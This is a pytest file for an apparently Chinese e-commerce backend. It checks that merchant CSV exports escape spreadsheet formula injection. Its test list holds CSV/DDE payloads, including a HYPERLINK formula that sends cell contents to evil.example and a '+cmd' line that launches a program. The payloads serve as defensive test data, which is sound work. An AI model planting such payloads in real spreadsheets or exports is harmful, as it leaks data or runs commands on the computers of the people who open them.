"""Every CSV a merchant downloads is safe to open in Excel / WPS / LibreOffice: a cell a shopper
(or anyone) controls never starts a formula (``=HYPERLINK(...)``, ``+cmd``, ``-2+3``, ``@SUM``, a
leading tab or carriage return), while numbers the project writes stay numbers."""

import csv
import io

import pytest

from core.csv_export import csv_cell
from orders import services
from orders.models import Order
from tests.factories import AddressFactory, make_product

EVIL = [
    '=HYPERLINK("https://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign: some spreadsheet locales read it as "="
]


@pytest.fixture
def merchant(client, merchant_a):
    client.force_login(merchant_a)
    return client


@pytest.mark.parametrize("value", EVIL)
def test_a_cell_never_starts_a_formula(value):
    cell = csv_cell(value)
    assert cell.startswith("'") and cell[1:] == value


@pytest.mark.parametrize("value", [-1250, 0, 42, "-12.50", "12.50", "0", "-3", "张三", "订单 #1", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def _export(merchant, orders) -> list[list[str]]:
    response = merchant.post(
        "/admin/orders/order/", {"action": "export_csv", "_selected_action": [o.pk for o in orders]}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # Excel reads the BOM as UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_order_export_neutralises_what_shoppers_typed(merchant, shop_a):
    orders = []
    for n, value in enumerate(EVIL):
        evil = value[:32]  # a recipient's name is at most 32 characters (PostgreSQL enforces it)
        address = AddressFactory(recipient=evil, detail=evil, city="上海市")
        sku = make_product(shop=shop_a, stock=5, title=f"商品{n}").skus.get()
        order = services.order_place(
            shop=shop_a, user=address.user, items=[(sku.pk, 1)], address_id=address.pk, remark=evil
        )
        # order_place strips the remark; the export must be safe whatever is stored
        Order.objects.filter(pk=order.pk).update(remark=evil)
        services.order_mark_paid(order=order, amount_fen=order.total_fen)
        orders.append(order)
    rows = _export(merchant, orders)
    header = rows[0]
    assert header == [
        "订单号", "下单时间", "状态", "商品", "应付(元)", "实付(元)", "已退款(元)", "收货人", "手机号", "地址",
        "买家留言", "物流",
    ]  # fmt: skip
    column = {name: i for i, name in enumerate(header)}
    by_no = {row[0]: row for row in rows[1:]}
    assert set(by_no) == {o.order_no for o in orders}
    for order in orders:
        order.refresh_from_db()
        row = by_no[order.order_no]
        evil = order.recipient
        assert row[column["收货人"]] == "'" + evil
        assert row[column["买家留言"]] == "'" + evil
        # masked (docs/privacy.md): the province and the city, the rest starred
        assert row[column["地址"]] == "上海市****" and order.address_detail not in row[column["地址"]]
        # amounts stay numbers a spreadsheet can sum
        assert row[column["应付(元)"]] == f"{order.total_fen / 100:.2f}"
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), row


def test_a_product_title_or_address_that_starts_a_formula_is_neutralised(merchant, shop_a):
    address = AddressFactory(province="=1+1", city="", district="", detail="")
    sku = make_product(shop=shop_a, stock=5, title="@SUM(A1)").skus.get()
    order = services.order_place(shop=shop_a, user=address.user, items=[(sku.pk, 1)], address_id=address.pk)
    row = _export(merchant, [order])[1]
    assert row[3].startswith("'@SUM(A1)") and row[9].startswith("'=1+1")


def test_bill_reconciliation_downloads_as_a_safe_csv(merchant, shop_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from devtools.wechatpay_sim import keys as simulator
    from payments.models import WeChatPayConfig
    from payments.wechat import crypto
    from tests.payments.test_bill import bill, row

    WeChatPayConfig.objects.filter(shop=shop_a).delete()  # the factory's simulator account

    WeChatPayConfig.objects.create(
        shop=shop_a, mchid="1900000109", appid="wx8888888888888888",
        merchant_serial_no="5157F09EFDC096DE15EBE81A47057A72",
        merchant_private_key=crypto.private_pem(crypto.new_private_key()), apiv3_key="a" * 32,
        **simulator.platform_settings(),
    )  # fmt: skip
    upload = SimpleUploadedFile("bill.csv", bill(row("=1+2", "9.99"), row("@SUM(A1)", "1.00")).encode())
    response = merchant.post("/admin/payments/paymentattempt/bill/", {"file": upload, "download": "1"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["问题", "商户订单号", "说明"]
    assert {tuple(r[:2]) for r in rows[1:]} == {("本店无记录", "'=1+2"), ("本店无记录", "'@SUM(A1)")}
    # the page itself names the problem in Chinese too, not by its code
    upload = SimpleUploadedFile("bill.csv", bill(row("STRANGER1", "9.99")).encode())
    page = merchant.post("/admin/payments/paymentattempt/bill/", {"file": upload}).content.decode()
    assert "本店无记录" in page and "missing_locally" not in page and "下载" in page


def test_a_file_that_is_not_a_bill_is_refused_in_chinese(merchant, shop_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from devtools.wechatpay_sim import keys as simulator
    from payments.models import WeChatPayConfig
    from payments.wechat import crypto

    WeChatPayConfig.objects.filter(shop=shop_a).delete()  # the factory's simulator account

    WeChatPayConfig.objects.create(
        shop=shop_a, mchid="1900000109", appid="wx8888888888888888",
        merchant_serial_no="5157F09EFDC096DE15EBE81A47057A72",
        merchant_private_key=crypto.private_pem(crypto.new_private_key()), apiv3_key="a" * 32,
        **simulator.platform_settings(),
    )  # fmt: skip
    upload = SimpleUploadedFile("bill.csv", b"a,b,c\n1,2,3\n")
    page = merchant.post("/admin/payments/paymentattempt/bill/", {"file": upload}).content.decode()
    assert "这不是微信支付交易账单" in page and "not a WeChat Pay trade bill" not in page
